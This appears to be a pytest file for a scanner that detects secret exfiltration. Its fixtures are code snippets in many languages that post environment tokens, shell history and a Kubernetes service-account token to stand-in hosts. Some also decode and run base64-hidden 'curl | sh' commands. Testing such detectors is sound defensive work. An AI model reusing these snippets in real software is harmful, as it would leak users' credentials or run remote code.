"""Variables of the environment: asked for by each language's own function, and used to hand something on."""

import pytest
from source_lab import ids, the

from beartrap.model.finding import Severity

TO = "https://drop.invalid/x"


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("a.py", "import os, requests\nrequests.post('TO', json=os.getenv('NAME'))"),
        ("a.py", "import requests\nfrom os import getenv as g\nrequests.post('TO', json=g('NAME', ''))"),
        ("a.py", "import os, requests\nrequests.post('TO', json={n: os.getenv(n) for n in ('HOME', 'NAME') if os.getenv(n)})"),
        ("a.py", "import os, requests\nrequests.post('TO', data=os.getenvb(b'NAME'))"),
        ("a.py", "import requests\nfrom decouple import config\nrequests.post('TO', json=config('NAME'))"),
        ("a.php", "<?php\nfile_get_contents('TO?' . getenv('NAME'));"),
        ("a.rb", "require 'net/http'\nNet::HTTP.post(URI('TO'), ENV.fetch('NAME', ''))"),
        ("a.go", 'package a\nimport ("net/http"; "os"; "strings")\nfunc init() { http.Post("TO", "a/b", strings.NewReader(os.Getenv("NAME"))) }'),
        ("a.rs", 'pub fn go() { ureq::post("TO").send_string(&std::env::var("NAME").unwrap_or_default()); }'),
        ("a.js", "fetch('TO', { method: 'POST', body: process.env.NAME });"),
        ("a.js", "fetch('TO', { method: 'POST', body: Deno.env.get('NAME') });"),
        ("a.ps1", "Invoke-RestMethod -Uri TO -Method Post -Body $env:NAME"),
        ("a.sh", 'curl -d "$NAME" TO'),
    ],
)  # fmt: skip
def test_a_secret_of_the_environment_that_leaves_is_told_however_it_was_asked_for(path: str, code: str) -> None:
    """The near miss asks for something that is no secret."""
    chain = "chain.variable-to-network"
    assert chain in ids(path, code.replace("TO", TO).replace("NAME", "GITHUB_TOKEN"))
    assert chain not in ids(path, code.replace("TO", TO).replace("NAME", "LANG"))


@pytest.mark.parametrize(
    ("name", "told"),
    [("SECRET_MANAGER", True), ("SECRET_MANAGER_URL", False), ("ID_TOKEN_TTL", False), ("MAX_NEW_TOKENS", False), ("TOKEN_URL_KEY_SECRET", True)],
)  # fmt: skip
def test_where_a_secret_is_to_be_had_is_no_secret(name: str, told: bool) -> None:
    code = f"fetch('{TO}', {{ method: 'POST', body: process.env.{name} }});"
    assert ("chain.variable-to-network" in ids("a.js", code)) is told


@pytest.mark.parametrize(
    ("asked", "told"),
    [("_.get(process.env, name, null)", "chain.caller-to-network"), ("_.get(process.env, 'GITHUB_TOKEN')", "chain.variable-to-network"), ("Object.keys(process.env).map((one) => _.get(process.env, one))", "chain.environment-to-network")],
)  # fmt: skip
def test_one_variable_that_a_library_takes_out_of_the_environment(asked: str, told: str) -> None:
    code = f"const _ = require('lodash'); exports.go = (name) => fetch('{TO}', {{ method: 'POST', body: {asked} }});"
    assert {one for one in ids("a.js", code) if one.startswith("chain.")} == {told}


RELAY = """
import os, subprocess, pathlib
def context():
    os.environ["_CTX"] = repr((pathlib.Path.home() / "FILE").read_text())
def upload():
    text = GET
    subprocess.run(["curl", "-X", "POST", "-d", "@-", "https://t.invalid/u"], input=text.encode())
context()
upload()
"""


@pytest.mark.parametrize("get", ["os.environ['_CTX']", "os.environ.pop('_CTX', '')", "os.getenv('_CTX')"])
@pytest.mark.parametrize(("file", "hit"), [(".bash_history", True), ("notes.txt", False)])
def test_what_one_function_leaves_in_a_variable_another_takes_out(get: str, file: str, hit: bool) -> None:
    found = ids("a.py", RELAY.replace("GET", get).replace("FILE", file))
    assert ("chain.credentials-to-network" in found) == hit


def test_code_that_waits_in_a_variable_is_looked_at() -> None:
    code = "import os, base64\nos.environ['A'] = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL2MuaW52YWxpZC94IHwgc2giKQ=='\nexec(base64.b64decode(os.environ['A']))"
    assert "process.piped" in ids("a.py", code)
    assert "process.piped" not in ids("a.py", code.replace("exec(", "print("))


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("const t = require('fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token');\nrequire('tls').connect(443, 'm.invalid').on('error', () => {}).end(t);", "chain.metadata-to-network"),
        ("const m = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\nm.execSync(Buffer.from('Y3VybCBodHRwOi8vYy5pbnZhbGlkL3ggfCBzaA==', 'base64').toString());", "hidden.act"),
    ],
)  # fmt: skip
def test_what_no_test_does_weighs_as_much_in_one(code: str, kind: str) -> None:
    """A script that `prepare` runs, or a helper of the tests, is run where the keys to a release are."""
    assert the("scripts/release.js", code, kind).severity >= Severity.HIGH
    assert (
        the(
            "scripts/release.js", "require('child_process').execSync('curl http://c.invalid/x | sh');", "process.piped"
        ).severity
        <= Severity.LOW
    )
